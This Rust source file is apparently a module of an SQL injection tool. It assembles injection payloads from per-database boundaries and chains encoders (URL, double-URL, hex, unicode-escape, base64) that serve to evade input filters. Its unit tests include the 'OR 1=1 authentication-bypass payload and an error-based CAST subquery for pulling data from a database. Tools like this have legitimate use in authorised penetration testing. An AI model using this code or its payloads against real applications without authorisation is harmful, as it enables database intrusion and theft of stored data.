//! Payload Builder.
//!
//! Assembles `prefix + core + suffix` and then threads the result
//! through zero or more encoders, drawing the pieces from the
//! `Dialect` table instead of hard-coding per-DBMS literals.

use base64::{engine::general_purpose::STANDARD as BASE64, Engine as _};

use super::Boundary;

/// An encoding applied to an assembled payload before it is sent on the
/// wire. Order matters: `DoubleUrl` must run after `Url` to actually
/// double-encode.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Encoder {
    Url,
    DoubleUrl,
    Hex,
    UnicodeEscape,
    Base64,
}

impl Encoder {
    fn apply(&self, input: &str) -> String {
        match self {
            Encoder::Url => urlencoding::encode(input).into_owned(),
            Encoder::DoubleUrl => {
                let once = urlencoding::encode(input).into_owned();
                urlencoding::encode(&once).into_owned()
            }
            Encoder::Hex => input.bytes().map(|b| format!("%{:02X}", b)).collect(),
            Encoder::UnicodeEscape => input.bytes().map(|b| format!("%u00{:02X}", b)).collect(),
            Encoder::Base64 => BASE64.encode(input.as_bytes()),
        }
    }
}

/// Builds one concrete payload string from a boundary and an inner SQL
/// fragment, then runs it through an encoder chain.
#[derive(Debug, Clone)]
pub struct PayloadBuilder {
    boundary: Boundary,
    core: String,
    encoders: Vec<Encoder>,
}

impl PayloadBuilder {
    pub fn new(boundary: Boundary, core: impl Into<String>) -> Self {
        PayloadBuilder {
            boundary,
            core: core.into(),
            encoders: Vec::new(),
        }
    }

    pub fn with_encoder(mut self, encoder: Encoder) -> Self {
        self.encoders.push(encoder);
        self
    }

    pub fn with_encoders(mut self, encoders: &[Encoder]) -> Self {
        self.encoders.extend_from_slice(encoders);
        self
    }

    /// The unencoded payload, useful for comparing against response
    /// bodies during error-signature matching.
    pub fn raw(&self) -> String {
        format!("{}{}{}", self.boundary.prefix, self.core, self.boundary.suffix)
    }

    /// The payload after the full encoder chain, ready to substitute
    /// into the request.
    pub fn render(&self) -> String {
        let mut payload = self.raw();
        for encoder in &self.encoders {
            payload = encoder.apply(&payload);
        }
        payload
    }
}

/// Substitutes `{{.Query}}` inside an error-payload template with a
/// concrete subquery expression, producing the core fragment that a
/// `PayloadBuilder` wraps in a boundary.
pub fn fill_query_template(template: &str, query: &str) -> String {
    template.replace("{{.Query}}", query)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::dbms::Boundary;

    fn string_boundary() -> Boundary {
        Boundary {
            prefix: "'",
            suffix: "-- ",
        }
    }

    #[test]
    fn raw_wraps_core_in_boundary() {
        let builder = PayloadBuilder::new(string_boundary(), "OR 1=1");
        assert_eq!(builder.raw(), "'OR 1=1-- ");
    }

    #[test]
    fn url_encoder_escapes_special_characters() {
        let builder = PayloadBuilder::new(string_boundary(), "OR 1=1").with_encoder(Encoder::Url);
        let rendered = builder.render();
        assert!(!rendered.contains('\''));
        assert!(rendered.contains("%27"));
    }

    #[test]
    fn double_url_encodes_twice() {
        let builder =
            PayloadBuilder::new(string_boundary(), "OR 1=1").with_encoder(Encoder::DoubleUrl);
        assert!(builder.render().contains("%2527"));
    }

    #[test]
    fn base64_round_trips_through_decode() {
        let builder =
            PayloadBuilder::new(string_boundary(), "OR 1=1").with_encoder(Encoder::Base64);
        let rendered = builder.render();
        let decoded = BASE64.decode(rendered).unwrap();
        assert_eq!(String::from_utf8(decoded).unwrap(), "'OR 1=1-- ");
    }

    #[test]
    fn query_template_substitution() {
        let filled = fill_query_template("AND 1=CAST(({{.Query}}) AS int)", "SELECT version()");
        assert_eq!(filled, "AND 1=CAST((SELECT version()) AS int)");
    }
}
